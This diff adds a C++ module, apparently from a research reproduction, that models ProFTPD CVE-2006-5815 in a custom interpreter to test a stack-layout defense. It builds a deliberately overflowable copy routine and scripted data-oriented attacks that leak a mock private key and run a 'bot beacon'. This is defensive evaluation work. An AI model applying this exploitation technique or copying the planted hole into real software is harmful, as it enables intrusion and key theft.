@@ -1,0 +1,300 @@
+//===- apps/Proftpd.cpp - ProFTPD CVE-2006-5815 model ----------------------===//
+//
+// Part of the Smokestack reproduction. MIT license.
+//
+//===----------------------------------------------------------------------===//
+
+#include "apps/Proftpd.h"
+
+#include "attacks/Attacker.h"
+#include "ir/IRBuilder.h"
+#include "support/Format.h"
+
+using namespace smokestack;
+
+namespace {
+
+/// sreplace: the vulnerable substitution routine.
+///   cmd = next command text (into the g_cmdbuf staging global);
+///   n   = sizeof(sbuf) - strlen(cmd);     // underflows when cmd > 128
+///   sstrncpy(sbuf, cmd, n);               // n <= 0 copies unbounded
+/// sbuf is declared first so it tops the frame: the copy runs straight into
+/// the caller.
+void buildSreplace(Module &M) {
+  IRBuilder B(M);
+  Function *GetInputN =
+      M.getOrInsertDeclaration("get_input_n", B.i64(), {B.ptr(), B.i64()});
+  Function *Strlen = M.getOrInsertDeclaration("strlen", B.i64(), {B.ptr()});
+  Function *Sstrncpy = M.getOrInsertDeclaration(
+      "sstrncpy", B.ptr(), {B.ptr(), B.ptr(), B.i64()});
+  GlobalVariable *CmdBuf =
+      M.createGlobal("g_cmdbuf", B.getContext().getArrayTy(B.i8(), 4096));
+
+  Function *F = M.createFunction("sreplace", B.voidTy(), {});
+  B.setInsertPoint(F->createBlock("entry"));
+  AllocaInst *SBuf = B.alloca_(B.getContext().getArrayTy(B.i8(), 128), "sbuf");
+  B.call(GetInputN, {CmdBuf, B.constI64(4095)});
+  Value *CmdLen = B.call(Strlen, {CmdBuf}, "cmdlen");
+  Value *Space = B.sub(B.constI64(128), CmdLen, "space");
+  B.call(Sstrncpy, {SBuf, CmdBuf, Space});
+  B.ret();
+}
+
+/// main_loop: the FTP command loop, holding the gadget dispatcher (byte
+/// counter `ctr`, exits at 10) and three DOP gadgets over byte opcode `op`:
+///   op==1 LOAD:  val = *(ptr)val      (walks the pointer chain in memory)
+///   op==2 SEED:  val = &p1            (the one non-randomized base pointer)
+///   op==3 MOV:   out = val
+/// The chain p1 -> p2 -> ... -> p7 -> key models ProFTPD's seven levels of
+/// indirection guarding the OpenSSL key.
+void buildMainLoop(Module &M) {
+  IRBuilder B(M);
+  Function *Sreplace = M.getFunction("sreplace");
+  GlobalVariable *Key = M.createGlobal(
+      "g_key", B.getContext().getArrayTy(B.i8(), 32),
+      {'K', 'E', 'Y', 'B', 'Y', 'T', 'E', 'S', 'x', 'x', 'x', 'x'});
+  std::vector<GlobalVariable *> Chain;
+  for (int I = 1; I <= 7; ++I)
+    Chain.push_back(M.createGlobal("g_p" + std::to_string(I), B.i64()));
+
+  Function *F = M.createFunction("main_loop", B.i64(), {});
+  BasicBlock *Entry = F->createBlock("entry");
+  BasicBlock *Loop = F->createBlock("loop");
+  BasicBlock *Body = F->createBlock("body");
+  BasicBlock *Chk2 = F->createBlock("chk2");
+  BasicBlock *Chk3 = F->createBlock("chk3");
+  BasicBlock *GLoad = F->createBlock("g_load");
+  BasicBlock *GSeed = F->createBlock("g_seed");
+  BasicBlock *GMov = F->createBlock("g_mov");
+  BasicBlock *Latch = F->createBlock("latch");
+  BasicBlock *Exit = F->createBlock("exit");
+
+  B.setInsertPoint(Entry);
+  AllocaInst *DummyTop =
+      B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "dummyTop");
+  AllocaInst *Out = B.alloca_(B.i64(), "out");
+  AllocaInst *Val = B.alloca_(B.i64(), "val");
+  AllocaInst *PadA = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padA");
+  AllocaInst *Op = B.alloca_(B.i8(), "op");
+  AllocaInst *PadB = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padB");
+  AllocaInst *Ctr = B.alloca_(B.i8(), "ctr");
+  AllocaInst *PadC = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padC");
+  B.store(B.constI8(0), B.gepConst(DummyTop, 0));
+  B.store(B.constI64(0), Out);
+  B.store(B.constI64(0), Val);
+  B.store(B.constI8(0), B.gepConst(PadA, 0));
+  B.store(B.constI8(0), Op);
+  B.store(B.constI8(0), B.gepConst(PadB, 0));
+  B.store(B.constI8(0), Ctr);
+  B.store(B.constI8(0), B.gepConst(PadC, 0));
+
+  // Build the pointer chain: p1 -> p2 -> ... -> p7 -> key.
+  for (int I = 0; I != 7; ++I) {
+    Value *Next =
+        B.cast_(CastInst::CastOp::PtrToInt, B.i64(),
+                I == 6 ? static_cast<Value *>(Key)
+                       : static_cast<Value *>(Chain[I + 1]));
+    B.store(Next, Chain[I]);
+  }
+  B.br(Loop);
+
+  B.setInsertPoint(Loop);
+  B.condBr(B.icmp(ICmpInst::Predicate::NE, B.load(B.i8(), Ctr),
+                  B.constI8(10)),
+           Body, Exit);
+
+  B.setInsertPoint(Body);
+  B.call(Sreplace, {});
+  Value *OpV = B.load(B.i8(), Op, "opv");
+  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(1)), GLoad, Chk2);
+  B.setInsertPoint(Chk2);
+  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(2)), GSeed, Chk3);
+  B.setInsertPoint(Chk3);
+  BasicBlock *Chk4 = F->createBlock("chk4");
+  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(3)), GMov, Chk4);
+  BasicBlock *GOut = F->createBlock("g_out");
+  B.setInsertPoint(Chk4);
+  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(4)), GOut, Latch);
+  B.setInsertPoint(GOut); // bot beacon: emit val on the control channel
+  Function *Print =
+      M.getOrInsertDeclaration("print_i64", B.voidTy(), {B.i64()});
+  B.call(Print, {B.load(B.i64(), Val)});
+  B.br(Latch);
+
+  B.setInsertPoint(GLoad); // val = *(ptr)val
+  Value *Ptr = B.cast_(CastInst::CastOp::IntToPtr, B.ptr(),
+                       B.load(B.i64(), Val));
+  B.store(B.load(B.i64(), Ptr), Val);
+  B.br(Latch);
+
+  B.setInsertPoint(GSeed); // val = &p1
+  B.store(B.cast_(CastInst::CastOp::PtrToInt, B.i64(), Chain[0]), Val);
+  B.br(Latch);
+
+  B.setInsertPoint(GMov); // out = val
+  B.store(B.load(B.i64(), Val), Out);
+  B.br(Latch);
+
+  B.setInsertPoint(Latch);
+  B.store(B.add(B.load(B.i8(), Ctr), B.constI8(1)), Ctr);
+  B.br(Loop);
+
+  B.setInsertPoint(Exit);
+  B.ret(B.load(B.i64(), Out));
+}
+
+/// Builds one command string performing a linear sweep [sbuf .. OffOp] with
+/// ctr/op planted at their disclosed offsets. The string must be NUL-free;
+/// a {0} terminator byte keeps g_cmdbuf's strlen exact across records.
+std::vector<uint8_t> commandRecord(int64_t OffOp, int64_t OffCtr,
+                                   uint8_t OpByte, uint8_t CtrByte) {
+  std::vector<uint8_t> Cmd(static_cast<size_t>(OffOp) + 1, 'A');
+  Cmd[static_cast<size_t>(OffCtr)] = CtrByte;
+  Cmd[static_cast<size_t>(OffOp)] = OpByte;
+  Cmd.push_back(0); // staging-buffer terminator (not copied by sstrncpy)
+  return Cmd;
+}
+
+} // namespace
+
+void smokestack::buildProftpdModule(Module &M) {
+  buildSreplace(M);
+  buildMainLoop(M);
+}
+
+AttackReport smokestack::runProftpdBotExploit(const ScenarioConfig &Config) {
+  Module M("proftpd");
+  buildProftpdModule(M);
+  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
+
+  AttackReport Report;
+  LayoutOracle Oracle(/*KeepFirst=*/true);
+  {
+    Interpreter ProbeVM(M, Config.Rng, Deployed.InterpOpts);
+    ProbeVM.setLayoutObserver(&Oracle);
+    ProbeVM.run("main_loop");
+  }
+  if (!Oracle.knows("sreplace", "sbuf") || !Oracle.knows("main_loop", "op") ||
+      !Oracle.knows("main_loop", "ctr")) {
+    Report.Outcome = AttackOutcome::MissedTarget;
+    Report.Detail = "probe did not disclose the gadget variables";
+    return Report;
+  }
+  int64_t Base = static_cast<int64_t>(Oracle.addressOf("sreplace", "sbuf"));
+  int64_t OffOp =
+      static_cast<int64_t>(Oracle.addressOf("main_loop", "op")) - Base;
+  int64_t OffCtr =
+      static_cast<int64_t>(Oracle.addressOf("main_loop", "ctr")) - Base;
+
+  // The bot script: SEED the cursor at the chain base, LOAD once (val now
+  // holds &p2 — a stable, nonzero beacon), then emit three beacons while
+  // holding the dispatcher open, then let it retire.
+  TrapKind LastTrap = TrapKind::None;
+  for (unsigned Attempt = 0; Attempt != Config.Budget; ++Attempt) {
+    Report.AttemptsUsed = Attempt + 1;
+    if (OffOp <= 0 || OffCtr <= 0 || OffCtr >= OffOp) {
+      Report.Outcome = AttackOutcome::MissedTarget;
+      Report.Detail = "disclosed layout leaves the dispatcher unreachable";
+      return Report;
+    }
+    Interpreter VM(M, Config.Rng, Deployed.InterpOpts);
+    VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/2, /*Ctr=*/0x80));
+    VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/1, /*Ctr=*/0x80));
+    for (int Beacon = 0; Beacon != 3; ++Beacon)
+      VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/4, /*Ctr=*/0x80));
+    VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/2, /*Ctr=*/9));
+    VM.pushInput({'B', 0});
+
+    ExecResult R = VM.run("main_loop");
+    // Success: exactly the scripted beacon bursts appeared (three lines of
+    // the same nonzero value).
+    const std::string &Out = VM.output();
+    size_t FirstNl = Out.find('\n');
+    if (R.ok() && FirstNl != std::string::npos && Out[0] != '0') {
+      std::string Line = Out.substr(0, FirstNl + 1);
+      if (Out == Line + Line + Line) {
+        Report.Outcome = AttackOutcome::Succeeded;
+        Report.Detail = formatString(
+            "bot executed the 3-beacon script on attempt %u", Attempt + 1);
+        return Report;
+      }
+    }
+    if (!R.ok())
+      LastTrap = R.Trap;
+  }
+  if (LastTrap != TrapKind::None) {
+    Report.Outcome = AttackOutcome::StoppedByTrap;
+    Report.Trap = LastTrap;
+    Report.Detail = std::string("stopped: ") + trapKindName(LastTrap);
+  } else {
+    Report.Outcome = AttackOutcome::MissedTarget;
+    Report.Detail = "the bot script never executed cleanly";
+  }
+  return Report;
+}
+
+AttackReport smokestack::runProftpdExploit(const ScenarioConfig &Config) {
+  Module M("proftpd");
+  buildProftpdModule(M);
+  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
+
+  AttackReport Report;
+  LayoutOracle Oracle(/*KeepFirst=*/true);
+  {
+    Interpreter ProbeVM(M, Config.Rng, Deployed.InterpOpts);
+    ProbeVM.setLayoutObserver(&Oracle);
+    ProbeVM.run("main_loop");
+  }
+  if (!Oracle.knows("sreplace", "sbuf") || !Oracle.knows("main_loop", "op") ||
+      !Oracle.knows("main_loop", "ctr")) {
+    Report.Outcome = AttackOutcome::MissedTarget;
+    Report.Detail = "probe did not disclose the gadget variables";
+    return Report;
+  }
+  int64_t Base = static_cast<int64_t>(Oracle.addressOf("sreplace", "sbuf"));
+  int64_t OffOp =
+      static_cast<int64_t>(Oracle.addressOf("main_loop", "op")) - Base;
+  int64_t OffCtr =
+      static_cast<int64_t>(Oracle.addressOf("main_loop", "ctr")) - Base;
+
+  TrapKind LastTrap = TrapKind::None;
+  for (unsigned Attempt = 0; Attempt != Config.Budget; ++Attempt) {
+    Report.AttemptsUsed = Attempt + 1;
+    if (OffOp <= 0 || OffCtr <= 0 || OffCtr >= OffOp) {
+      Report.Outcome = AttackOutcome::MissedTarget;
+      Report.Detail = "disclosed layout leaves the dispatcher unreachable";
+      return Report;
+    }
+
+    Interpreter VM(M, Config.Rng, Deployed.InterpOpts);
+    // The published exploit's 24-step gadget chain, as SEED + 8 LOADs + MOV
+    // with the dispatcher counter reset (0x80) every round and retired (9,
+    // ++ -> 10) on the last:
+    VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/2, /*Ctr=*/0x80));
+    for (int Load = 0; Load != 8; ++Load)
+      VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/1, /*Ctr=*/0x80));
+    VM.pushInput(commandRecord(OffOp, OffCtr, /*Op=*/3, /*Ctr=*/9));
+    // Benign terminator command in case the schedule missed (stale layout):
+    // keeps the loop from replaying the last overflow forever.
+    VM.pushInput({'B', 0});
+
+    ExecResult R = VM.run("main_loop");
+    if (R.ok() && R.ReturnValue == ProftpdKeyWord) {
+      Report.Outcome = AttackOutcome::Succeeded;
+      Report.Detail =
+          formatString("private key exfiltrated on attempt %u", Attempt + 1);
+      return Report;
+    }
+    if (!R.ok())
+      LastTrap = R.Trap;
+  }
+  if (LastTrap != TrapKind::None) {
+    Report.Outcome = AttackOutcome::StoppedByTrap;
+    Report.Trap = LastTrap;
+    Report.Detail = std::string("stopped: ") + trapKindName(LastTrap);
+  } else {
+    Report.Outcome = AttackOutcome::MissedTarget;
+    Report.Detail = "command stream ran clean without leaking the key";
+  }
+  return Report;
+}
